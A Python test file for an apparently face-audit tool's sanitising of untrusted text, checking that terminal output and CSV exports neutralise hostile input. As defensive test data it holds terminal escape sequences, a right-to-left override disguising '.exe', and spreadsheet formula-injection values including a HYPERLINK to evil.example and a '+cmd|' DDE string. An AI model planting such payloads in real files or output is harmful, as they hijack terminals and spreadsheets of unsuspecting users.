"""Text that others wrote (a model card, a photo's file name, a labels.csv's cells) as it leaves Bias Mirror: on the
terminal no escape sequence is obeyed (one had set the title, cleared the screen, and could overwrite the ship gate's
FAILED line), and in the CSVs no cell is a spreadsheet formula (a race "=1+1" had shown as 2, a file name
"=HYPERLINK(…)" had been a live link)."""
from __future__ import annotations

import csv
import logging
import shutil
import sys
import types
from pathlib import Path

import pytest

import main
from inference.errors import BiasMirrorError
from inference.untrusted_text import terminal_safe
from tests.conftest import make_classifier, make_filter, utk_images

TITLE = "\x1b]0;HIJACKED-TITLE\x07"  # sets the terminal's title
CLEAR = "\x1b[2J\x1b[41mRED\x1b[0m"  # clears the screen, then red
LINK = "\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07"  # a hyperlink that shows another text
UP = "\x1b[1A\r\x1b[2K"  # up a line, over what was there
RTL = "\u202egpj.exe"  # shown as "exe.jpg"
HOSTILE = f"N{TITLE}{CLEAR}{LINK}{UP}{RTL}\x9b\x7f"
NAMES = "é 中文 😀 Łódź"  # names as people write them: shown as they are
CONTROLS = [chr(c) for c in [*range(0x20), 0x7F, *range(0x80, 0xA0), *range(0x202A, 0x202F), *range(0x2066, 0x206A)]
            if chr(c) not in "\n\t"]


def obeyed(text: str) -> list[str]:
    """The characters of ``text`` a terminal would obey rather than show."""
    return sorted({c for c in text if c in CONTROLS})


# --- terminal_safe ---------------------------------------------------------------------------------------------------
def test_terminal_safe_shows_controls_and_overrides_as_escapes_and_keeps_names_newlines_and_tabs():
    shown = terminal_safe(f"{HOSTILE} {NAMES}\n\tnext")
    assert obeyed(shown) == []
    assert "\\x1b]0;HIJACKED-TITLE\\x07" in shown and "\\u202egpj.exe" in shown
    assert "\\x0d" in shown and "\\x9b\\x7f" in shown
    assert shown.endswith(f" {NAMES}\n\tnext")  # é, 中文, emoji, a newline and a tab pass unchanged
    assert terminal_safe(NAMES) == NAMES and terminal_safe("") == ""
    # the right-to-left marks a Hebrew or Arabic name carries are kept: each moves only the punctuation beside it
    assert terminal_safe("שלום\u200f.jpg") == "שלום\u200f.jpg"
    # a file name's bytes that are not UTF-8, as rows.printable shows them (0x9b raw is a C1 CSI)
    assert terminal_safe("caf\udce9\udc9b.jpg") == "caf\\xe9\\x9b.jpg"


# --- main.py: error lines, log lines, crashes ------------------------------------------------------------------------
@pytest.fixture
def evil_command(monkeypatch, capsys):
    """A command `evil` whose main does what it is given, run through main.main as every command is: its exit
    status, standard output and standard error."""
    module = types.ModuleType("evil_command_for_tests")
    module.add_arguments = lambda p: None
    monkeypatch.setitem(sys.modules, module.__name__, module)
    monkeypatch.setattr(main, "COMMANDS", [*main.COMMANDS, ("evil", module.__name__, "a test's command")])

    def run(behaviour) -> tuple[int, str, str]:
        module.main = lambda args: behaviour()
        return main.main(["evil"]), *_read(capsys)

    return run


def _read(capsys) -> tuple[str, str]:
    captured = capsys.readouterr()
    return captured.out, captured.err


def test_an_error_line_shows_a_cards_escape_sequences_as_text(evil_command):
    """`error: {exc}` had written an adopted graph's output names and a card's name raw."""

    def fail():
        raise BiasMirrorError(f"its graph's outputs are named {HOSTILE!s} and {NAMES}", "evil.onnx")

    code, _, err = evil_command(fail)
    assert code == 2 and obeyed(err) == []
    assert err == f"error: evil.onnx: its graph's outputs are named {terminal_safe(HOSTILE)} and {NAMES}\n"


def test_an_os_error_names_its_file_as_text(evil_command):

    def fail():
        raise FileNotFoundError(2, "No such file or directory", f"photos/{HOSTILE}.jpg")

    code, _, err = evil_command(fail)
    assert code == 2 and obeyed(err) == [] and "\\x1b]0;HIJACKED-TITLE" in err


def test_a_crashs_traceback_shows_escape_sequences_as_text(evil_command):

    def crash():
        raise ValueError(f"group {HOSTILE}")

    code, _, err = evil_command(crash)
    assert code == 2 and obeyed(err.replace("\n", "")) == []
    assert "Traceback" in err and f"ValueError: group {terminal_safe(HOSTILE)}" in err


def test_log_lines_show_escape_sequences_as_text(evil_command, monkeypatch):
    """A warning quoting a file name went raw to the terminal through the root handler main.py sets up."""
    # as a user's process: no handler yet (pytest's own catch the records otherwise, and basicConfig adds none)
    monkeypatch.setattr(logging.root, "handlers", [])
    monkeypatch.setattr(logging.root, "level", logging.root.level)

    def warn():
        logging.getLogger("inference.evil").warning("%s: unreadable (%s)", f"{HOSTILE}.jpg", NAMES)
        return 0

    code, _, err = evil_command(warn)
    assert code == 0 and obeyed(err) == []
    assert err == f"WARNING inference.evil: {terminal_safe(HOSTILE)}.jpg: unreadable ({NAMES})\n"


# --- doctor -----------------------------------------------------------------------------------------------------------
# A card's name holding a control character or an override is refused as the card is read (tests/
# test_card_untrusted_s27.py): these models' names are what a card may hold, a spreadsheet's formula starts and all.
CLASSIFIER = f"=SUM(1+1) {NAMES}"  # evil_models' classifier's name
FILTER = "@filter"


@pytest.fixture(scope="module")
def evil_models(tmp_path_factory) -> dict[str, Path]:
    d = tmp_path_factory.mktemp("evil_models")
    return {"classifier": make_classifier(d / "evil_cls.onnx", name=CLASSIFIER),
            "filter": make_filter(d / "evil_filter.onnx", name=FILTER)}


def test_doctor_shows_a_cards_name_as_text_in_its_list_and_its_markdown(evil_models, capsys, monkeypatch, tmp_path):
    """A name of escape sequences (which a card may no longer hold) is refused, its refusal shown as text."""
    from inference import doctor
    from tests.test_card_untrusted_s27 import tampered

    shutil.copy(evil_models["classifier"], tmp_path / "evil_cls.onnx")
    monkeypatch.setattr(doctor, "MODELS_DIR", tmp_path)
    for argv in (["doctor", "--cameras", "0", "--no-gpu-probe"], ["doctor", "--cards"]):
        assert main.main(argv) == 0
        out, err = _read(capsys)
        assert obeyed(out + err) == [], argv
        assert CLASSIFIER in out, argv
    tampered(evil_models["classifier"], tmp_path / "hostile.onnx", lambda c: c.update(name=f"={HOSTILE}{NAMES}"))
    for argv in (["doctor", "--cameras", "0", "--no-gpu-probe"], ["doctor", "--cards"]):
        assert main.main(argv) == 1
        out, err = _read(capsys)
        assert obeyed(out + err) == [], argv
        assert "hostile.onnx: invalid model card: its name holds the character \\x1b" in out, (argv, out)


# --- audit and run: what they say, and the CSVs they write ----------------------------------------------------------
FORMULA_FILES = ['=HYPERLINK("http:\\\\evil.example\\?"&A3,"open me").jpg', "+cmd|' '!A0.jpg", "@SUM(1+1).jpg",
                 "-2+3.jpg", "'quoted'.jpg"]
OTHER_FILES = [f"esc{TITLE}x.jpg", f"rtl{RTL}.jpg", f"{NAMES}.jpg", "plain.jpg"]
FILES = FORMULA_FILES + OTHER_FILES
GROUPS = ['=HYPERLINK("http://evil.example","x")', "@A1", "\x1b[31mred\x1b[0m", "-2+3", "+1"]
RACES = ["=1+1", "-2+3", "white", "+A1"]


def hostile_folder(root: Path) -> Path:
    """Real faces (each its own photo: copies of one under different labels are left out) named as a spreadsheet
    or a terminal would obey, with labels and groups as such too."""
    root.mkdir()
    rows = [["file", "gender", "race", "age", "group"]]
    for i, (name, photo) in enumerate(zip(FILES, utk_images(len(FILES)), strict=True)):
        shutil.copy(photo, root / name)
        rows.append([name, ("male", "female")[i % 2], RACES[i % len(RACES)], 20 + i, GROUPS[i % len(GROUPS)]])
    with open(root / "labels.csv", "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    return root


def audited(models: dict[str, Path], tmp_path: Path, capsys) -> tuple[str, str, Path]:
    """An audit of ``hostile_folder`` through a classifier and a filter of hostile names: what it printed, and
    its faces.csv."""
    out = tmp_path / "out"
    assert main.main(["audit", "--dataset", f"folder:{hostile_folder(tmp_path / 'photos')}", "--aligned",
                      "--classifier", str(models["classifier"]), "--filter", str(models["filter"]), "--out", str(out),
                      "--no-html", "--no-progress", "--no-dataset-cache"]) == 0
    return *_read(capsys), out / "faces.csv"


def ran(models: dict[str, Path], tmp_path: Path, capsys) -> tuple[str, Path]:
    """`run` over ``hostile_folder``, itself of a hostile name (its progress bar's): standard error, and the CSV."""
    rows = tmp_path / "rows.csv"
    assert main.main(["run", "--source", str(hostile_folder(tmp_path / f"photos{TITLE}")), "--out", str(rows),
                      "--classifier", str(models["classifier"]), "--filter", str(models["filter"])]) == 0
    return _read(capsys)[1], rows


def read_csv(path: Path) -> tuple[list[str], list[list[str]]]:
    with open(path, newline="", encoding="utf-8") as fh:
        header, *rows = list(csv.reader(fh))
    return header, rows


def column(header: list[str], rows: list[list[str]], name: str) -> list[str]:
    return [row[header.index(name)] for row in rows]


def spreadsheet_text(cell: str) -> bool:
    """Whether a spreadsheet takes ``cell`` for text, not a formula: none of a formula's first characters is its
    first."""
    return not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def numbers(header: list[str], rows: list[list[str]], columns: list[str]) -> dict[str, list[float]]:
    """``columns`` as a reader that infers types (pandas, a spreadsheet) reads them: every cell a number or empty,
    none made text by a leading '."""
    table = {c: column(header, rows, c) for c in columns}
    for name, cells in table.items():
        assert all(cell == "" or _number(cell) for cell in cells), (name, cells)
        assert any(cells), name
    return {c: [float(cell) for cell in cells if cell] for c, cells in table.items()}


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_an_audits_summary_shows_file_names_groups_and_card_names_as_text(evil_models, tmp_path, capsys):
    """"Small groups in group …" had cleared the screen, a classifier's name had set the terminal's title."""
    said, err, _ = audited(evil_models, tmp_path, capsys)
    assert obeyed(said + err) == []
    assert "Small groups in group" in said and "\\x1b[31mred\\x1b[0m" in said
    assert f"{CLASSIFIER}: mean P(female)" in said


def test_faces_csv_marks_text_that_a_spreadsheet_would_run_and_keeps_numbers(evil_models, tmp_path, capsys):
    """A file name "=HYPERLINK(…)" had been a live link, a race "=1+1" had shown as 2."""
    header, rows = read_csv(audited(evil_models, tmp_path, capsys)[2])
    assert f"'{CLASSIFIER}:p_female" in header and f"'{CLASSIFIER}:delta_p_female" in header  # a card's name
    assert sorted(column(header, rows, "file")) == sorted(["'" + n if n in FORMULA_FILES else n for n in FILES])
    races = column(header, rows, "race")
    assert {"'=1+1", "'-2+3", "'+A1", "White"} == set(races)  # a race the reader knows, as it spells it
    groups = column(header, rows, "group")
    assert {"'@A1", "'=HYPERLINK(\"http://evil.example\",\"x\")", "\x1b[31mred\x1b[0m", "'-2+3", "'+1"} == set(groups)
    assert all(spreadsheet_text(cell) for row in [header, *rows] for cell in row if cell and not _number(cell))
    table = numbers(header, rows, ["ita", "L", "delta_ita", "delta_l", f"'{CLASSIFIER}:p_female",
                                   f"'{CLASSIFIER}:delta_p_female"])
    assert min(table["delta_l"]) < 0  # a darkening filter: negative numbers, written as numbers
    assert set(column(header, rows, "box")) == {"0 0 200 200"}


def test_faces_csv_writes_a_box_past_the_image_and_negative_numbers_as_they_are(tmp_path):
    """Only text is marked: a box reaching past the image ("-1 -22 200 200"), made of numbers by the writer, stays
    as a script splits it, and an ITA of -12.5 stays a number; a file "-1.jpg" and a predicted label are text."""
    from inference.audit.cli import write_faces_csv

    row = {"file": "-1.jpg", "face": 0, "box": [-1, -22, 200, 200], "gender": "male", "race": "-2+3", "age": 20,
           "group": "@A1", "skin": {"measurable": True, "ita": -12.5, "L": 40.0, "mst": 7, "category": "dark"},
           "filtered_skin": None, "d_ita": None, "d_l": None, "d_mst": None, "moved_px": None,
           "clf": {"=m": {"p": 0.25, "pred": "-female", "focus": -0.0}}}
    write_faces_csv(tmp_path / "faces.csv", [row], ["=m"])
    header, rows = read_csv(tmp_path / "faces.csv")
    cells = dict(zip(header, rows[0]))
    assert (cells["file"], cells["race"], cells["group"], cells["'=m:predicted"]) == ("'-1.jpg", "'-2+3", "'@A1",
                                                                                      "'-female")
    assert (cells["box"], cells["ita"], cells["'=m:p_female"], cells["'=m:cam_focus"]) == ("-1 -22 200 200", "-12.5",
                                                                                          "0.25", "-0.0")


def test_run_shows_file_names_as_text_on_its_status_lines_and_progress_bar(evil_models, tmp_path, capsys):
    err, _ = ran(evil_models, tmp_path, capsys)
    assert obeyed(err.replace("\r", "")) == []  # tqdm's own \r redraw its bar: they are the only controls
    assert "photos\\x1b]0;HIJACKED-TITLE\\x07: " in err  # the bar's name


def test_runs_csv_marks_file_and_filter_names_a_spreadsheet_would_run_and_keeps_numbers(evil_models, tmp_path,
                                                                                        capsys):
    header, rows = read_csv(ran(evil_models, tmp_path, capsys)[1])
    assert len(rows) >= len(FILES) // 2  # faces found
    assert set(column(header, rows, "filter")) == {f"'{FILTER}"}
    sources = set(column(header, rows, "source"))
    assert sources & {"'" + n for n in FORMULA_FILES} and not sources & set(FORMULA_FILES)
    assert all(spreadsheet_text(s) for s in sources)
    table = numbers(header, rows, ["time", "x", "y", "ita", "delta_l", f"p_female[{CLASSIFIER}]",
                                   f"delta_p_female[{CLASSIFIER}]"])
    assert min(table["delta_l"]) < 0


# --- train evaluate: its tables ---------------------------------------------------------------------------------------
def test_evaluate_shows_a_cards_name_as_text_in_its_tables(evil_models, tmp_path, capsys):
    from tests.test_cyclegan import write_utk

    data = write_utk(tmp_path / "UTKFace", per_cell=2)
    assert main.main(["train", "evaluate", "--model", str(evil_models["classifier"]), "--dataset", f"utkface:{data}",
                      "--split", "all"]) == 0
    out, err = _read(capsys)
    assert obeyed(out) == [] and obeyed(err.replace("\r", "")) == []
    assert f"{CLASSIFIER} (evil_cls.onnx): overall accuracy" in out
